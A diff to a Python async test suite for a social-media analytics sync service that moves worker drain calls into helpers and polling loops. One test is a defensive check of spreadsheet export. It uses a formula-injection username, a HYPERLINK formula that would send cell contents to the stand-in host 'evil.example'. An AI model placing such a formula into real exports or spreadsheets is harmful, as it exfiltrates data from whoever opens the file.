@@ -259,8 +259,7 @@ async def test_a_deleted_post_stops_being_synced(
     owner, ws = await owner_with_workspace(api)
     account_ids = await connected(api, db, owner, ws, "x")
     fetch = workers("deleted")
-    await fetch.drain()
-    first = await ingested(db, account_ids)
+    first = await ingested(db, account_ids, drain=fetch.drain)
     gone = first[0]
     deleted = await sandbox.delete(f"/_sandbox/posts/x/{gone['platform_post_id']}")
     deleted.raise_for_status()
@@ -269,9 +268,9 @@ async def test_a_deleted_post_stops_being_synced(
         f"/api/v1/analytics/refresh/{account_ids[0]}", headers=owner.headers, json={}
     )
     assert sync.status_code == 202, sync.text
-    await fetch.drain()
 
     async def marked() -> list[Any] | None:
+        await fetch.drain()  # as running workers would, however long the ingester holds rows
         posts = await posts_of(db, account_ids)
         return (
             posts if {p["status"] for p in posts if p["id"] == gone["id"]} == {"deleted"} else None
@@ -283,8 +282,7 @@ async def test_a_deleted_post_stops_being_synced(
         f"/api/v1/analytics/refresh/{account_ids[0]}", headers=owner.headers, json={}
     )
     assert later.json()["total_posts"] == len(posts) - 1  # the deleted one is not asked for
-    await fetch.drain()
-    after = {p["id"]: p for p in await ingested(db, account_ids, snapshots=3)}
+    after = {p["id"]: p for p in await ingested(db, account_ids, snapshots=3, drain=fetch.drain)}
     assert after[gone["id"]]["snapshots"] == 1  # never fetched again
 
 
@@ -318,7 +316,7 @@ async def test_two_worker_sets_never_fetch_the_same_post_twice(
 
     await asyncio.gather(*(w.drain() for w in (one, two, one, two)))
 
-    posts = await ingested(db, account_ids)
+    posts = await ingested(db, account_ids, drain=one.drain)
     assert all(p["snapshots"] == 1 for p in posts), [p["snapshots"] for p in posts]
     # One fetch per account (each has fewer posts than a batch), from either set: X's is
     # two calls (private metrics, then public ones for the posts older than 30 days).
@@ -601,8 +599,7 @@ async def test_a_sync_whose_budget_is_spent_finishes_with_its_posts_rate_limited
     and they wait, out of the sync, for the budget to free."""
     owner, ws = await owner_with_workspace(api)
     [account] = await connected(api, db, owner, ws, "youtube")
-    await workers("first").drain()
-    await ingested(db, [account])
+    await ingested(db, [account], drain=workers("first").drain)
     answer = await api.post(f"/api/v1/analytics/refresh/{account}", headers=owner.headers)
     assert answer.status_code == 202, answer.text
     sync_id, total = answer.json()["sync_id"], answer.json()["total_posts"]
@@ -644,8 +641,7 @@ async def test_refresh_runs_a_sync_to_completion_with_per_platform_counters(
     x = await connected(api, db, owner, ws, "x")
     await connected(api, db, owner, ws, "youtube")
     fetch = workers("refresh")
-    await fetch.drain()
-    await ingested(db, x)
+    await ingested(db, x, drain=fetch.drain)
 
     answer = await api.post(
         "/api/v1/analytics/refresh", json={"workspace_id": ws}, headers=owner.headers
@@ -656,9 +652,8 @@ async def test_refresh_runs_a_sync_to_completion_with_per_platform_counters(
     queued = await api.get(f"/api/v1/analytics/sync/{sync_id}", headers=owner.headers)
     assert queued.json()["status"] == "queued"
 
-    await fetch.drain()
-
     async def finished() -> dict[str, Any] | None:
+        await fetch.drain()  # as running workers would, however long the ingester holds rows
         got = await api.get(f"/api/v1/analytics/sync/{sync_id}", headers=owner.headers)
         body: dict[str, Any] = got.json()
         return body if body["status"] in ("completed", "partial", "failed") else None
@@ -689,8 +684,7 @@ async def test_a_refresh_of_what_was_just_refreshed_makes_no_new_sync(
     name = f"x{uuid.uuid4().hex[:8]}"
     [account] = await connected(api, db, owner, ws, "x", name)
     fetch = workers("twice")
-    await fetch.drain()
-    await ingested(db, [account])
+    await ingested(db, [account], drain=fetch.drain)
     url = f"/api/v1/analytics/refresh/{account}"
 
     first, second = await asyncio.gather(
@@ -705,9 +699,9 @@ async def test_a_refresh_of_what_was_just_refreshed_makes_no_new_sync(
         "/api/v1/analytics/refresh", json={"workspace_id": ws}, headers=owner.headers
     )
     assert whole.status_code == 202, whole.text
-    await fetch.drain()
 
     async def finished() -> bool | None:
+        await fetch.drain()  # as running workers would, however long the ingester holds rows
         for sync_id in (first.json()["sync_id"], whole.json()["sync_id"]):
             got = await api.get(f"/api/v1/analytics/sync/{sync_id}", headers=owner.headers)
             if got.json()["status"] not in ("completed", "partial", "failed"):
@@ -751,8 +745,7 @@ async def test_sync_status_shows_no_app_wide_budget(
     owner, ws = await owner_with_workspace(api)
     x = await connected(api, db, owner, ws, "x")
     youtube = await connected(api, db, owner, ws, "youtube")
-    await workers("status").drain()
-    await ingested(db, x + youtube)
+    await ingested(db, x + youtube, drain=workers("status").drain)
     [project] = await rows(
         db, "SELECT used FROM analytics.budgets WHERE bucket = 'youtube:project'"
     )
@@ -810,8 +803,7 @@ async def test_a_username_that_starts_like_a_formula_is_exported_as_text(
     owner, ws = await owner_with_workspace(api)
     name = f'=HYPERLINK("http://evil.example/?{uuid.uuid4().hex[:6]}"&A2,"x")'
     [account] = await connected(api, db, owner, ws, "x", name)
-    await workers("formula").drain()
-    posts = await ingested(db, [account])
+    posts = await ingested(db, [account], drain=workers("formula").drain)
     [stored] = await rows(db, "SELECT username FROM analytics.accounts WHERE id = :a", a=account)
     assert stored["username"] == name  # kept as the platform gave it
 
@@ -943,9 +935,9 @@ async def test_a_member_connected_without_the_analytics_scopes_is_told_why_per_a
     await cooled_down(db, ws)
     sync = await api.post(f"/api/v1/analytics/refresh/{member}", headers=owner.headers, json={})
     assert sync.status_code == 202, sync.text
-    await fetch.drain()
 
     async def finished() -> dict[str, Any] | None:
+        await fetch.drain()  # as running workers would, however long the ingester holds rows
         answer = await api.get(
             f"/api/v1/analytics/sync/{sync.json()['sync_id']}", headers=owner.headers
         )
